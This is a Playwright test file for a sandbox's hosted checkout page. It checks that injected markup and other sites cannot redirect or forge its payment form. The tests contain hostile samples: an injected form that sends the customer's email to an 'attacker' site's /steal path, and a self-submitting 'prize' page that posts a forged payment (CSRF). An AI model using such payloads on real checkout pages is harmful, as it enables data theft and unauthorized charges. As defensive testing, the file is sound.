/**
 * The sandbox's hosted checkout page in Chromium against what another site, or markup injected into the page, can
 * make it do: its form posts only to the sandbox itself, and Pay still leads on to the shop's success_url; a form
 * on another site that posts to it pays nothing.
 */
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { escapeHtml } from '../../src/sandbox/checkout-page.js';
import { postJson } from '../helpers/http.js';
import { startTestService, type TestService } from '../helpers/service.js';
import { chromiumAvailable, launchChromium, watchPageErrors } from './browser.js';

const haveChromium = chromiumAvailable();

interface Site {
  server: Server;
  url: string;
  /** Every request the site was sent: method and path. */
  requests: string[];
  /** The HTML its pages answer with. */
  html: string;
  /** Resolved with the first POST the site is sent. */
  posted: Promise<string>;
}

/** A site of its own, answering every GET with `html` and recording what it is sent. */
async function startSite(hostName: string): Promise<Site> {
  let onPost: (what: string) => void = () => undefined;
  const site: Site = {
    server: createServer((req: IncomingMessage, res) => {
      const what = `${req.method} ${req.url}`;
      site.requests.push(what);
      if (req.method === 'POST') onPost(what);
      req.resume();
      res.setHeader('content-type', 'text/html; charset=utf-8');
      res.end(site.html);
    }),
    url: '',
    requests: [],
    html: '<!doctype html><title>site</title><p id="here">here</p>',
    posted: new Promise((resolve) => (onPost = resolve)),
  };
  await new Promise<void>((resolve) => site.server.listen(0, '127.0.0.1', resolve));
  site.url = `http://${hostName}:${(site.server.address() as AddressInfo).port}`;
  return site;
}

describe.skipIf(!haveChromium)("the hosted checkout page's form, in Chromium", () => {
  let svc: TestService;
  /** The shop: where success_url leads, on an origin of its own. */
  let shop: Site;
  /** Another site: `localhost` is another site than the sandbox's 127.0.0.1 to a browser. */
  let attacker: Site;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let pageErrors: string[];

  beforeAll(async () => {
    svc = await startTestService('sqlite');
    shop = await startSite('127.0.0.1');
    attacker = await startSite('localhost');
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
    for (const site of [shop, attacker]) await new Promise((resolve) => site?.server.close(resolve));
    await svc?.stop();
  });
  beforeEach(async () => {
    context = await browser.newContext();
    page = await context.newPage();
    pageErrors = watchPageErrors(page);
  });
  afterEach(async () => {
    await context?.close();
  });

  async function createSession(): Promise<{ id: string; url: string }> {
    const res = await postJson(`${svc.url}/create-checkout-session`, {
      line_items: [
        { price_data: { currency: 'sgd', product_data: { name: 'Mug' }, unit_amount: 2500 }, quantity: 1 },
      ],
      success_url: `${shop.url}/thanks?session_id={CHECKOUT_SESSION_ID}`,
      cancel_url: `${shop.url}/cart`,
    });
    expect(res.status, res.text).toBe(200);
    return { id: String(res.json.id), url: String(res.json.url) };
  }

  const stateAtStripe = async (id: string) => {
    const s = await svc.deps.stripe.checkout.sessions.retrieve(id);
    return { status: s.status, payment_status: s.payment_status };
  };

  it("Pay leads on to the shop's success_url, on another origin than the page's", async () => {
    const session = await createSession();
    await page.goto(session.url);
    await page.getByLabel('Email').fill('policy@example.com');
    await page.locator('#pay').click();
    await page.waitForURL((u) => u.origin === shop.url && u.pathname === '/thanks');
    expect(new URL(page.url()).searchParams.get('session_id')).toBe(session.id);
    expect(await page.locator('#here').textContent()).toBe('here');
    expect(await stateAtStripe(session.id)).toEqual({ status: 'complete', payment_status: 'paid' });
    expect(pageErrors).toEqual([]);
  }, 60_000);

  it('a <base> injected into the page does not move where the form posts', async () => {
    const session = await createSession();
    await page.goto(session.url);
    // Written as strings: the page's own script, run in the browser (tsconfig has no DOM types).
    const action = await page.evaluate<string>(`(() => {
      const base = document.createElement('base');
      base.href = ${JSON.stringify(`${attacker.url}/`)};
      document.head.prepend(base);
      return document.querySelector('form').action;
    })()`);
    expect(new URL(action).origin).toBe(new URL(session.url).origin);
  }, 60_000);

  it('a form injected into the page cannot send what it holds to another site', async () => {
    const session = await createSession();
    await page.goto(session.url);
    const refused = page.evaluate<string>(`new Promise((resolve) =>
      document.addEventListener('securitypolicyviolation', (e) => resolve('refused: ' + e.effectiveDirective)),
    )`);
    await page.evaluate(`(() => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = ${JSON.stringify(`${attacker.url}/steal`)};
      const field = document.createElement('input');
      field.name = 'email';
      field.value = document.querySelector('#email').value;
      form.append(field);
      document.body.append(form);
      form.submit();
    })()`);
    expect(await Promise.race([refused, attacker.posted])).toBe('refused: form-action');
    expect(attacker.requests.filter((r) => r.startsWith('POST'))).toEqual([]);
  }, 60_000);

  it('a form on another site that posts to the page is refused and pays nothing', async () => {
    const session = await createSession();
    // What a customer lured onto another site's page gets: a form that submits itself to the checkout.
    attacker.html =
      `<!doctype html><title>prize</title><form id="f" method="post" action="${escapeHtml(session.url)}">` +
      `<input name="email" value="victim@example.com"><input name="payment_method" value="pm_card_visa">` +
      `</form><script>document.getElementById('f').submit()</script>`;
    const answer = page.waitForResponse((r) => r.url() === session.url && r.request().method() === 'POST');
    await page.goto(`${attacker.url}/prize`);
    const refused = await answer;
    expect(refused.status()).toBe(403);
    await page.waitForURL(session.url);
    expect(await page.locator('#status').textContent()).toMatch(/another site/);
    expect(await stateAtStripe(session.id)).toEqual({ status: 'open', payment_status: 'unpaid' });

    // The customer who then opens the page itself can still pay.
    await page.goto(session.url);
    await page.getByLabel('Email').fill('customer@example.com');
    await page.locator('#pay').click();
    await page.waitForURL((u) => u.origin === shop.url && u.pathname === '/thanks');
    expect(await stateAtStripe(session.id)).toEqual({ status: 'complete', payment_status: 'paid' });
  }, 60_000);
});
